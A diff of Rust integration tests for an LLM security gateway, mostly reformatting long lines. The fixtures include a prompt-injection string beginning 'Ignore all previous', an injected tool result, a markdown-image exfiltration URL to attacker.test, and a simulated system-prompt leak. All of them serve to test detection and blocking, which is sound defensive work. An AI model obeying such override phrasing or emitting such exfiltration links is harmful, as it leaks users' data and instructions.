@@ -20,7 +20,11 @@ async fn allowed_request_is_forwarded_with_upstream_key_and_unknown_fields() {
     assert_eq!(resp["choices"][0]["message"]["content"], "Hello there");
     assert_eq!(resp["usage"]["total_tokens"], 2);
     assert_eq!(headers["x-parapet-verdict"], "allow");
-    let overhead: f64 = headers["x-parapet-overhead-ms"].to_str().unwrap().parse().unwrap();
+    let overhead: f64 = headers["x-parapet-overhead-ms"]
+        .to_str()
+        .unwrap()
+        .parse()
+        .unwrap();
     assert!(overhead >= 0.0);
     let got = up.bodies();
     assert_eq!(got.len(), 1);
@@ -43,9 +47,18 @@ async fn auth_is_required_and_checked() {
     assert_eq!(v["error"]["code"], "invalid_api_key");
     let (s, _, _) = post_raw(gw, "/v1/chat/completions", body.clone(), Some("sk-wrong")).await;
     assert_eq!(s, 401);
-    let (s, _, _) = post_raw(gw, "/v1/chat/completions", body, Some(&KEY[..KEY.len() - 1])).await;
+    let (s, _, _) = post_raw(
+        gw,
+        "/v1/chat/completions",
+        body,
+        Some(&KEY[..KEY.len() - 1]),
+    )
+    .await;
     assert_eq!(s, 401);
-    assert!(up.bodies().is_empty(), "nothing reaches the upstream without a valid key");
+    assert!(
+        up.bodies().is_empty(),
+        "nothing reaches the upstream without a valid key"
+    );
     // spoofed forwarding headers change nothing
     let r = client()
         .get(format!("http://{gw}/v1/models"))
@@ -61,13 +74,28 @@ async fn auth_is_required_and_checked() {
 async fn models_list_and_unknown_paths() {
     let up = fake(Reply::Json(completion("x"))).await;
     let gw = gateway(up.addr).await;
-    let r = client().get(format!("http://{gw}/v1/models")).bearer_auth(KEY).send().await.unwrap();
+    let r = client()
+        .get(format!("http://{gw}/v1/models"))
+        .bearer_auth(KEY)
+        .send()
+        .await
+        .unwrap();
     assert_eq!(r.status().as_u16(), 200);
     let v: Value = serde_json::from_slice(&r.bytes().await.unwrap()).unwrap();
-    let ids: Vec<&str> = v["data"].as_array().unwrap().iter().map(|m| m["id"].as_str().unwrap()).collect();
+    let ids: Vec<&str> = v["data"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|m| m["id"].as_str().unwrap())
+        .collect();
     assert_eq!(ids, vec!["gpt-4o", "alias"]);
     assert_eq!(v["object"], "list");
-    let r = client().get(format!("http://{gw}/v1/nothing")).bearer_auth(KEY).send().await.unwrap();
+    let r = client()
+        .get(format!("http://{gw}/v1/nothing"))
+        .bearer_auth(KEY)
+        .send()
+        .await
+        .unwrap();
     assert_eq!(r.status().as_u16(), 404);
     let v: Value = serde_json::from_slice(&r.bytes().await.unwrap()).unwrap();
     assert_eq!(v["error"]["code"], "not_found");
@@ -79,30 +107,68 @@ async fn models_list_and_unknown_paths() {
 #[tokio::test]
 async fn malformed_and_oversized_bodies() {
     let up = fake(Reply::Json(completion("x"))).await;
-    let gw = gateway_with(up.addr, "", "[limits]\nmax_body_bytes = 2048\nmax_messages = 3", None).await;
-    let (s, _, v) = post_raw(gw, "/v1/chat/completions", b"{\"model\": ".to_vec(), Some(KEY)).await;
+    let gw = gateway_with(
+        up.addr,
+        "",
+        "[limits]\nmax_body_bytes = 2048\nmax_messages = 3",
+        None,
+    )
+    .await;
+    let (s, _, v) = post_raw(
+        gw,
+        "/v1/chat/completions",
+        b"{\"model\": ".to_vec(),
+        Some(KEY),
+    )
+    .await;
     assert_eq!(s, 400);
     assert_eq!(v["error"]["type"], "invalid_request_error");
-    assert!(v["error"]["message"].as_str().unwrap().contains("not complete JSON"), "{v}");
+    assert!(
+        v["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("not complete JSON"),
+        "{v}"
+    );
     let (s, _, v) = post(gw, "/v1/chat/completions", &json!({"model": "gpt-4o"})).await;
     assert_eq!(s, 400);
-    assert!(v["error"]["message"].as_str().unwrap().contains("messages"), "{v}");
-    let (s, _, v) = post(gw, "/v1/chat/completions", &json!({"model": "gpt-4o", "messages": "my secret"})).await;
+    assert!(
+        v["error"]["message"].as_str().unwrap().contains("messages"),
+        "{v}"
+    );
+    let (s, _, v) = post(
+        gw,
+        "/v1/chat/completions",
+        &json!({"model": "gpt-4o", "messages": "my secret"}),
+    )
+    .await;
     assert_eq!(s, 400);
-    assert!(!v["error"]["message"].as_str().unwrap().contains("secret"), "{v}");
-    let many = json!({"model": "gpt-4o", "messages": vec![json!({"role": "user", "content": "a"}); 4]});
+    assert!(
+        !v["error"]["message"].as_str().unwrap().contains("secret"),
+        "{v}"
+    );
+    let many =
+        json!({"model": "gpt-4o", "messages": vec![json!({"role": "user", "content": "a"}); 4]});
     let (s, _, _) = post(gw, "/v1/chat/completions", &many).await;
     assert_eq!(s, 400);
     // too large, with Content-Length
-    let (s, _, v) = post(gw, "/v1/chat/completions", &chat("gpt-4o", &"a".repeat(5000))).await;
+    let (s, _, v) = post(
+        gw,
+        "/v1/chat/completions",
+        &chat("gpt-4o", &"a".repeat(5000)),
+    )
+    .await;
     assert_eq!(s, 413);
     assert_eq!(v["error"]["code"], "request_too_large");
     // too large, chunked (no Content-Length)
-    let chunks: Vec<Result<Vec<u8>, std::io::Error>> = (0..10).map(|_| Ok(vec![b' '; 500])).collect();
+    let chunks: Vec<Result<Vec<u8>, std::io::Error>> =
+        (0..10).map(|_| Ok(vec![b' '; 500])).collect();
     let r = client()
         .post(format!("http://{gw}/v1/chat/completions"))
         .bearer_auth(KEY)
-        .body(reqwest::Body::wrap_stream(futures_util::stream::iter(chunks)))
+        .body(reqwest::Body::wrap_stream(futures_util::stream::iter(
+            chunks,
+        )))
         .send()
         .await
         .unwrap();
@@ -119,7 +185,10 @@ async fn injection_is_blocked_by_role() {
     assert_eq!(v["error"]["type"], "policy_violation");
     assert_eq!(v["error"]["code"], "input_blocked");
     let msg = v["error"]["message"].as_str().unwrap();
-    assert!(msg.contains("prompt_injection") && msg.contains("messages[0] (user)"), "{msg}");
+    assert!(
+        msg.contains("prompt_injection") && msg.contains("messages[0] (user)"),
+        "{msg}"
+    );
     assert!(!msg.contains("Ignore all previous"), "{msg}");
     // an injected tool result in an earlier turn is found too
     let body = json!({"model": "gpt-4o", "messages": [
@@ -130,7 +199,13 @@ async fn injection_is_blocked_by_role() {
         {"role": "user", "content": "thanks"}]});
     let (s, _, v) = post(gw, "/v1/chat/completions", &body).await;
     assert_eq!(s, 403);
-    assert!(v["error"]["message"].as_str().unwrap().contains("messages[2] (tool)"), "{v}");
+    assert!(
+        v["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("messages[2] (tool)"),
+        "{v}"
+    );
     // the system prompt is trusted: not scored for injection
     let body = json!({"model": "gpt-4o", "messages": [
         {"role": "system", "content": INJECTION}, {"role": "user", "content": "hello"}]});
@@ -151,14 +226,26 @@ async fn redaction_happens_before_forwarding() {
     assert_eq!(s, 200);
     assert_eq!(h["x-parapet-verdict"], "redact");
     let got = up.bodies();
-    assert_eq!(got[0]["messages"][0]["content"][0]["text"], "pay<ZERO_WIDTH>ment due");
-    assert_eq!(got[0]["messages"][0]["content"][1], body["messages"][0]["content"][1]);
+    assert_eq!(
+        got[0]["messages"][0]["content"][0]["text"],
+        "pay<ZERO_WIDTH>ment due"
+    );
+    assert_eq!(
+        got[0]["messages"][0]["content"][1],
+        body["messages"][0]["content"][1]
+    );
 }
 
 #[tokio::test]
 async fn shadow_mode_forwards_unchanged() {
     let up = fake(Reply::Json(completion("ok"))).await;
-    let gw = gateway_with(up.addr, "", "", Some("shadow = true\n[kinds.prompt_injection]\nblock = 0.5")).await;
+    let gw = gateway_with(
+        up.addr,
+        "",
+        "",
+        Some("shadow = true\n[kinds.prompt_injection]\nblock = 0.5"),
+    )
+    .await;
     let (s, h, _) = post(gw, "/v1/chat/completions", &chat("gpt-4o", INJECTION)).await;
     assert_eq!(s, 200);
     assert_eq!(h["x-parapet-verdict"], "allow");
@@ -183,7 +270,11 @@ async fn upstream_failures_map_to_502_504_and_pass_4xx() {
     assert_eq!(s, 502);
     assert_eq!(v["error"]["type"], "upstream_error");
 
-    let up = fake(Reply::Status(400, json!({"error": {"message": "max_tokens is too large"}}))).await;
+    let up = fake(Reply::Status(
+        400,
+        json!({"error": {"message": "max_tokens is too large"}}),
+    ))
+    .await;
     let gw = gateway(up.addr).await;
     let (s, _, v) = post(gw, "/v1/chat/completions", &chat("gpt-4o", "hi")).await;
     assert_eq!(s, 400);
@@ -215,7 +306,13 @@ async fn upstream_failures_map_to_502_504_and_pass_4xx() {
 async fn exfiltration_image_in_answer_is_neutralised() {
     let answer = "Summary done. ![status](https://attacker.test/log?d=c2VjcmV0) See [docs](https://docs.example.com/a).";
     let up = fake(Reply::Json(completion(answer))).await;
-    let gw = gateway_with(up.addr, "", "[output]\nallowed_domains = [\"example.com\"]", None).await;
+    let gw = gateway_with(
+        up.addr,
+        "",
+        "[output]\nallowed_domains = [\"example.com\"]",
+        None,
+    )
+    .await;
     let (s, h, v) = post(gw, "/v1/chat/completions", &chat("gpt-4o", "summarise")).await;
     assert_eq!(s, 200);
     assert_eq!(
@@ -234,7 +331,10 @@ fn canary_of(req: &Value) -> String {
 #[tokio::test]
 async fn canary_is_inserted_and_a_leak_is_blocked() {
     let leak = Reply::JsonFrom(std::sync::Arc::new(|req: &Value| {
-        completion(&format!("Sure! My instructions contain {}.", canary_of(req)))
+        completion(&format!(
+            "Sure! My instructions contain {}.",
+            canary_of(req)
+        ))
     }));
     let up = fake(leak).await;
     let gw = gateway_with(up.addr, "", "[output]\ncanary = true", None).await;
@@ -244,7 +344,10 @@ async fn canary_is_inserted_and_a_leak_is_blocked() {
     let (s, _, v) = post(gw, "/v1/chat/completions", &body).await;
     assert_eq!(s, 403, "{v}");
     assert_eq!(v["error"]["code"], "output_blocked");
-    assert!(v["error"]["message"].as_str().unwrap().contains("system_prompt_leak"));
+    assert!(v["error"]["message"]
+        .as_str()
+        .unwrap()
+        .contains("system_prompt_leak"));
     assert!(!v.to_string().contains("pcy-"));
     // canary in tool-call arguments is caught as well
     let leak_args = Reply::JsonFrom(std::sync::Arc::new(|req: &Value| {
@@ -282,7 +385,10 @@ async fn every_request_is_audited_without_sensitive_text() {
     parapet_audit::export(&sink, 1, &mut out).unwrap();
     let text = String::from_utf8(out).unwrap();
     assert!(!text.contains("Ignore all previous"), "{text}");
-    let recs: Vec<Value> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    let recs: Vec<Value> = text
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
     let r: Vec<&Value> = recs.iter().map(|v| &v["record"]).collect();
     assert_eq!(r[0]["status"], 200);
     assert_eq!(r[0]["key_id"], "team-test");
@@ -305,9 +411,16 @@ async fn metrics_are_exposed() {
     let gw = gateway(up.addr).await;
     let (s, _, _) = post(gw, "/v1/chat/completions", &chat("gpt-4o", "hello")).await;
     assert_eq!(s, 200);
-    let r = client().get(format!("http://{gw}/metrics")).send().await.unwrap();
+    let r = client()
+        .get(format!("http://{gw}/metrics"))
+        .send()
+        .await
+        .unwrap();
     assert_eq!(r.status().as_u16(), 200);
     let text = r.text().await.unwrap();
     assert!(text.contains("parapet_requests_total"), "{text}");
-    assert!(text.contains("parapet_request_duration_seconds_bucket"), "{text}");
+    assert!(
+        text.contains("parapet_request_duration_seconds_bucket"),
+        "{text}"
+    );
 }
